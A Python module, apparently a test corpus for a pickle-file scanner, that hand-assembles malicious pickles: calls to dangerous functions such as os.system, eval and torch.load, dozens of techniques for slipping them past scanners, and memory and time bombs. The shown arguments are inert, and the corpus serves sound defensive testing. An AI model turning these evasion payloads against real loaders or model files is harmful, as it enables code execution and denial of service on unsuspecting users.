"""Pickles made to do harm, by the names and ways that have been published.

Sources: the bypasses reported against picklescan, fickling and modelscan; Slaviero, "Sour Pickles"
(2011); the documentation of `pickletools`. Nothing here does harm when it is only built.
"""

from __future__ import annotations

import pickle
import struct

# Functions that run, read, write or connect, with arguments that a scanner might overlook.
CALLED = """
    os system echo; posix system echo; os popen echo; os execv /bin/true; os spawnv 0
    os remove x; os rename x; os mkdir x; os putenv x; os kill 0; os _exit 0
    os posix_spawn /bin/true; subprocess Popen echo; subprocess run echo; subprocess call echo
    subprocess check_output echo; subprocess getoutput echo; subprocess getstatusoutput echo
    _posixsubprocess fork_exec x; pty spawn echo; multiprocessing.util spawnv_passfds echo
    asyncio create_subprocess_shell echo
    asyncio.unix_events _UnixSubprocessTransport._start echo; uuid _get_command_stdout echo
    builtins eval 1; builtins exec 1; builtins compile 1; builtins __import__ this
    builtins open x; builtins getattr x; builtins setattr x; builtins globals x; builtins vars x
    builtins input x; builtins breakpoint x; builtins help x; builtins exit 0; builtins print x
    __builtin__ eval 1; __builtin__ apply x; __builtin__ file x; __builtin__ execfile x
    commands getoutput echo; importlib import_module this
    importlib.util spec_from_file_location x; imp load_source x; runpy run_path x
    runpy run_module this; runpy _run_code x; pkgutil resolve_name os:system
    zipimport zipimporter x; site addpackage x; _sitebuiltins Quitter x; sys exit 0
    sys setprofile x; types FunctionType x; types CodeType x; types MethodType x
    types DynamicClassAttribute x; operator attrgetter system; operator methodcaller system
    operator itemgetter x; functools partial x; functools reduce x; itertools starmap x
    _functools partial x; pickle loads x; _pickle loads x; pickle Unpickler x; marshal loads x
    shelve open x; dbm open x; dill loads x; cloudpickle loads x; joblib load x
    jsonpickle decode x; copyreg _reconstructor x; torch load x; torch.storage _load_from_bytes x
    torch.hub load x; torch.jit load x; torch.serialization load x
    torch.package PackageImporter x; torch._dynamo.guards eval x
    torch.utils._config_module load_config x; torch.utils.collect_env run echo
    torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression x
    torch.utils.bottleneck.__main__ run_cprofile x; torch.utils.data.datapipes.utils.decoder x x
    torch._inductor.codecache compile_file x; torch.distributed.rpc rpc_sync x
    torch.cuda.jiterator _create_jit_fn x; torch.utils.cpp_extension load x; numpy load x
    numpy.testing._private.utils runstring 1; numpy.f2py.crackfortran getlincoef 1
    numpy.f2py.crackfortran myeval 1; numpy.distutils.exec_command exec_command echo
    numpy.lib.npyio load x; pandas read_pickle x; pandas.core.computation.eval eval 1
    code InteractiveInterpreter.runcode 1; codeop compile_command 1; bdb Bdb.run 1; pdb run 1
    pdb Pdb x; cProfile run 1; cProfile runctx 1; profile run 1; profile Profile.run 1
    timeit timeit 1; timeit main x; trace Trace.run 1; doctest debug_script 1; doctest testfile x
    idlelib.pyshell ModifiedInterpreter.runcode 1; idlelib.run Executive.runcode 1
    idlelib.debugobj ObjectTreeItem.SetText x; idlelib.autocomplete AutoComplete.get_entity 1
    idlelib.calltip get_entity 1; idlelib.calltip Calltip.fetch_tip 1
    lib2to3.pgen2.pgen ParserGenerator.make_label 1; lib2to3.pgen2.grammar Grammar.loads x
    pydoc pipepager x; pydoc tempfilepager x; pydoc locate os; cgitb lookup x; rlcompleter x x
    ensurepip _run_pip x; pip main install; pip._internal main install; venv create x
    distutils.spawn spawn echo; distutils.file_util write_file x; setuptools.sandbox run_setup x
    shutil rmtree x; shutil move x; shutil copy x; tempfile mkdtemp x; pathlib Path.unlink x
    _io FileIO x; io open x; io open_code x; codecs open x; linecache getline x
    fileinput input x; glob glob x; zipfile ZipFile x; tarfile open x; sqlite3 connect x
    mmap mmap 0; fcntl fcntl 0; ctypes CDLL x; ctypes.util find_library x; _ctypes dlopen x
    cffi FFI x; socket create_connection x; socket socket 0; urllib.request urlopen x
    http.client HTTPSConnection x; ftplib FTP x; smtplib SMTP x; imaplib IMAP4_stream echo
    poplib POP3 x; telnetlib Telnet x; nntplib NNTP x; xmlrpc.client ServerProxy x
    requests get x; aiohttp request x; httpx get x; webbrowser open x
    ssl get_server_certificate x; asyncio open_connection x; nturl2path x x
    logging.config listen 0; logging.config dictConfig x; logging FileHandler x
    signal raise_signal 0; signal signal 0; threading Thread x; _thread start_new_thread x
    concurrent.futures Executor x; multiprocessing Process x; gc get_objects x
    inspect getsource x; ast literal_eval 1; unittest.mock _importer os
    test.support.script_helper assert_python_ok x; weakref finalize x; atexit register x
    sched scheduler x; contextlib ExitStack.callback x; yaml unsafe_load x; jinja2 Template x
    mako.template Template x; keras.models load_model x; tensorflow.io read_file x
    transformers AutoModel.from_pretrained x; huggingface_hub snapshot_download x
    planescope.files.pickles read_pickle x
"""

CALLS = [tuple(each.split()) for line in CALLED.splitlines() for each in line.split(";") if each]
CALLS = [each for each in CALLS if each]

ECHO = b"X\x04\0\0\0echo"
SYSTEM = b"cos\nsystem\n"


def text(value: str, *, code: bytes = b"X") -> bytes:
    raw = value.encode()
    match code:
        case b"X":
            return b"X" + struct.pack("<I", len(raw)) + raw
        case b"\x8c" | b"U":
            return code + bytes([len(raw)]) + raw
        case b"T":
            return b"T" + struct.pack("<I", len(raw)) + raw
        case b"\x8d":
            return code + struct.pack("<Q", len(raw)) + raw
        case b"V":
            return b"V" + raw + b"\n"
    return b"S'" + raw + b"'\n"


def _ways() -> dict[str, bytes]:
    """One call, by all ways in which a pickle can come to it, and hidden in all known ways."""
    called = SYSTEM + ECHO + b"\x85R"
    ways = {
        "reduce": called + b".",
        "reduce-with-a-mark": SYSTEM + b"(" + ECHO + b"tR.",
        "inst": b"(" + ECHO + b"ios\nsystem\n.",
        "obj": b"(" + SYSTEM + ECHO + b"o.",
        "newobj": SYSTEM + ECHO + b"\x85\x81.",
        "newobj-ex": SYSTEM + ECHO + b"\x85}\x92.",
        "newobj-ex-with-keywords": SYSTEM + b")}" + text("command") + ECHO + b"s\x92.",
        "build": b"cpickle_payloads\nArmed\n)\x81" + ECHO + b"b.",
        "build-of-a-dict": b"cpickle_payloads\nArmed\n)\x81}" + text("a") + called + b"sb.",
        "build-of-slots": b"cpickle_payloads\nArmed\n)\x81N}" + text("a") + called + b"s\x86b.",
        "build-over-setstate": b"cpickle_payloads\nArmed\n)\x81}" + text("__setstate__") + SYSTEM
        + b"sb" + ECHO + b"b.",
        "setitem": b"cpickle_payloads\nArmed\n)\x81" + text("a") + ECHO + b"s.",
        "setitems": b"cpickle_payloads\nArmed\n)\x81(" + text("a") + ECHO + b"u.",
        "append": b"cpickle_payloads\nArmed\n)\x81" + ECHO + b"a.",
        "appends": b"cpickle_payloads\nArmed\n)\x81(" + ECHO + b"e.",
        "additems": b"cpickle_payloads\nArmed\n)\x81(" + ECHO + b"\x90.",
        "stack-global": text("os") + text("system") + b"\x93" + ECHO + b"\x85R.",
        "stack-global-of-the-memo": text("os") + b"q\x010" + text("system") + b"q\x020"
        + b"h\x01h\x02\x93" + ECHO + b"\x85R.",
        "stack-global-of-a-duplicate": text("posix") + b"0" + text("os") + text("system") + b"\x93"
        + ECHO + b"\x85R.",
        "global-with-dots": b"\x80\x04cos\nsys.modules\n.",
        "stack-global-with-dots": b"\x80\x04" + text("os") + text("path.os.system") + b"\x93"
        + ECHO + b"\x85R.",
        "extension-1": b"\x82\xf1" + ECHO + b"\x85R.",
        "extension-2": b"\x83\xf1\x00" + ECHO + b"\x85R.",
        "extension-4": b"\x84\xf1\x00\x00\x00" + ECHO + b"\x85R.",
        "memo": SYSTEM + b"q\x000h\x00" + ECHO + b"\x85R.",
        "memo-by-line": SYSTEM + b"p99\n0g99\n" + ECHO + b"\x85R.",
        "memo-of-four-bytes": SYSTEM + b"r\0\x01\0\x000j\0\x01\0\0" + ECHO + b"\x85R.",
        "memo-overwritten": b"cbuiltins\nlen\nq\x000" + SYSTEM + b"q\x000h\x00" + ECHO + b"\x85R.",
        "memoize": b"\x80\x04" + SYSTEM + b"\x940h\x00" + ECHO + b"\x85R.",
        "duplicate": SYSTEM + b"2" + ECHO + b"\x85R.",
        "popped": called + b"0N.",
        "popped-with-its-mark": b"(" + called + b"1N.",
        "in-a-list": b"](" + called + b"e.",
        "as-a-key": b"}" + called + b"Ns.",
        "in-a-set": b"\x80\x04\x8f(" + called + b"\x90.",
        "in-a-frozenset": b"\x80\x04(" + called + b"\x91.",
        "persistent-id": called + b"Q.",
        "in-a-persistent-id": b"(" + text("storage") + called + text("0") + text("cpu")
        + b"K\x01tQ.",
        "persistent-id-that-is-a-global": SYSTEM + b"Q.",
        "then-cut": called,
        "then-damaged": called + b"\xff\xfe\xfd.",
        "then-an-empty-stack": called + b"00000.",
        "then-a-short-text": called + b"X\xff\xff\xff\x7fa.",
        "behind-a-frame-that-lies": b"\x80\x04\x95\x01\0\0\0\0\0\0\0" + called + b".",
        "behind-a-frame-of-all-bytes": b"\x80\x04\x95" + b"\xff" * 8 + called + b".",
        "behind-two-protocols": b"\x80\x04\x80\x02" + called + b".",
        "in-protocol-0": SYSTEM + b"(S'echo'\ntR.",
        "in-an-unknown-protocol": b"\x80\x07" + called + b".",
        "behind-another-pickle": b"N." + called + b".",
        "nested": b"cpickle\nloads\nC" + bytes([len(called) + 1]) + called + b".\x85R.",
        "nested-twice": pickle.dumps(pickle.dumps(called + b".")),
        "nested-by-torch": b"ctorch.storage\n_load_from_bytes\nC" + bytes([len(called) + 1])
        + called + b".\x85R.",
        "through-partial": b"cfunctools\npartial\n" + SYSTEM + ECHO + b"\x86R)R.",
        "through-map": b"cbuiltins\nlist\ncbuiltins\nmap\n" + SYSTEM + b"]" + ECHO
        + b"a\x86R\x85R.",
        "through-getattr": b"cbuiltins\ngetattr\ncos\npath\n" + text("os") + b"\x86R.",
        "through-reduce-of-reduce": b"cbuiltins\ngetattr\n" + SYSTEM + text("__call__") + b"\x86R"
        + ECHO + b"\x85R.",
        "through-import": b"cbuiltins\n__import__\n" + text("this") + b"\x85R.",
        "through-type": b"cbuiltins\ntype\n" + text("A") + b"cbuiltins\nobject\n\x85}"
        + text("__reduce__") + SYSTEM + b"s\x87R)R.",
        "through-ordered-dict": b"ccollections\nOrderedDict\n)R}" + text("a") + called + b"sb.",
        "as-a-shape": b"ctorch._utils\n_rebuild_tensor_v2\n(" + b"N" + b"K\0" + called + called
        + b"\x89}tR.",
        "as-state-of-a-module": b"ctorch.nn.modules.conv\nConv2d\n)\x81}" + text("_modules")
        + called + b"sb.",
    }  # fmt: skip
    for code in (b"X", b"\x8c", b"\x8d", b"V", b"S", b"T", b"U"):
        named = text("os", code=code) + text("system", code=code) + b"\x93"
        ways[f"stack-global-of-text-by-{code!r}"] = b"\x80\x04" + named + ECHO + b"\x85R."
    return ways


class Armed:
    """Whatever unpickling does with it is told as if it were run."""

    def fire(self, *_: object) -> None:
        exec("1")

    __setstate__ = __setitem__ = append = extend = add = fire


# Pickles that call something: a name to the stream.
ATTACKS = {f"{module}-{name}": b"\x80\x02c%b\n%b\n" % (module.encode(), name.encode())
           + text(argument) + b"\x85R." for module, name, argument in CALLS}  # fmt: skip
ATTACKS |= _ways()


def _doubling(levels: int) -> bytes:
    """Each list holds the one before it twice: so many lists, and 2^levels ways through them."""
    lists = b"".join(b"]q%c0](h%ch%ce" % (n, n, n) for n in range(levels))
    return b"]" + lists + b"."


MANY = 1 << 16

# Pickles that take time or memory out of all proportion where they are believed.
BOMBS = {
    "marks": b"(" * MANY + b".",
    "duplicates": b"N" + b"2" * MANY + b".",
    "memo-puts": b"N" + b"\x94" * MANY + b".",
    "sparse-memo": b"Nr\xff\xff\xff\x7f.",
    "sparse-memo-many": b"N" + b"".join(b"r" + struct.pack("<I", n << 16) for n in range(999))
    + b".",
    "memo-of-a-huge-number": b"Np" + b"9" * 20_000 + b"\n.",
    "negative-memo": b"Np-1\n.",
    "doubling-lists": _doubling(60),
    "doubling-tuples": b"N" + b"2\x86" * 60 + b".",
    "doubling-dictionaries": b"}" + b"2\x86\x85" * 60 + b".",
    "doubling-text": text("a" * 99) + b"2\x86" * 60 + b".",
    "deep-lists": b"]" * MANY + b"a" * (MANY - 1) + b".",
    "deep-tuples": b"N" + b"\x85" * MANY + b".",
    "deep-dictionaries": (b"}" + text("a")) * 9999 + b"N" + b"s" * 9999 + b".",
    "deep-calls": b"ca\nb\n" + b")R" * MANY + b".",
    "deep-states": b"ca\nb\n)R" + b"N\x85b" * 9999 + b".",
    "deep-persistent-ids": b"N" + b"Q" * MANY + b".",
    "deep-keys": b"}N" + b"\x85" * MANY + b"Ns.",
    "deep-set": b"\x8f(N" + b"\x85" * MANY + b"\x90.",
    "object-in-itself": b"]q\0h\0a.",
    "call-of-itself": b"ca\nb\n)Rq\0h\0b.",
    "digits-of-long": b"L" + b"9" * 500_000 + b"L\n.",
    "digits-of-int": b"I" + b"9" * 500_000 + b"\n.",
    "digits-of-float": b"F" + b"9" * 500_000 + b"\n.",
    "many-digits": b"".join(b"I" + b"9" * 1000 + b"\n0" for _ in range(500)) + b"N.",
    "long-of-four-bytes": b"\x8b\xff\xff\xff\x7f.",
    "long-of-a-negative-size": b"\x8b\xff\xff\xff\xff.",
    "long-of-half-a-megabyte": b"\x8b" + struct.pack("<i", 500_000) + b"\xff" * 500_000 + b".",
    "escapes": b"S'" + b"\\x41" * 100_000 + b"'\n.",
    "backslashes": b"S'" + b"\\" * 400_000 + b"'\n.",
    "unicode-escapes": b"V" + b"\\u0041" * 80_000 + b"\n.",
    "surrogates": b"X" + struct.pack("<I", 300_000) + b"\xed\xa0\x80" * 100_000 + b".",
    "lines-without-end": b"S'" + b"a" * 500_000,
    "many-lines-without-end": b"V\n0" * 100_000 + b"S'",
    "text-of-exabytes": b"\x8d" + b"\xff" * 7 + b"\x7f.",
    "bytes-of-exabytes": b"\x8e" + b"\xff" * 8 + b".",
    "bytearray-of-exabytes": b"\x96" + b"\xff" * 7 + b"\x7f.",
    "text-of-four-gigabytes": b"X\xff\xff\xff\xff.",
    "frame-of-exabytes": b"\x80\x04\x95" + b"\xff" * 8 + b"N.",
    "frames": b"\x80\x04" + (b"\x95" + b"\0" * 8) * 50_000 + b"N.",
    "protocols": b"\x80\x02" * MANY + b"N.",
    "colliding-keys": b"}(" + b"".join(
        b"\x8a\x0a" + (n * (2**61 - 1)).to_bytes(10, "little") + b"N" for n in range(20_000)
    ) + b"u.",
    "colliding-tuples": b"}(" + b"".join(
        b"J" + struct.pack("<i", n) + b"\x85N" for n in range(20_000)
    ) + b"u.",
    "one-key-many-times": b"}(" + (text("a") + b"N") * 50_000 + b"u.",
    "appends-of-nothing": b"]" + b"(e" * MANY + b".",
    "popping": b"N" * MANY + b"0" * MANY + b"N.",
    "out-of-band-buffer": b"\x97.",
    "out-of-band-buffer-read-only": b"\x97\x98.",
    "extension-that-nobody-has": b"\x84\xff\xff\xff\x7f.",
    "nothing-but-stop": b".",
    "empty": b"",
}  # fmt: skip
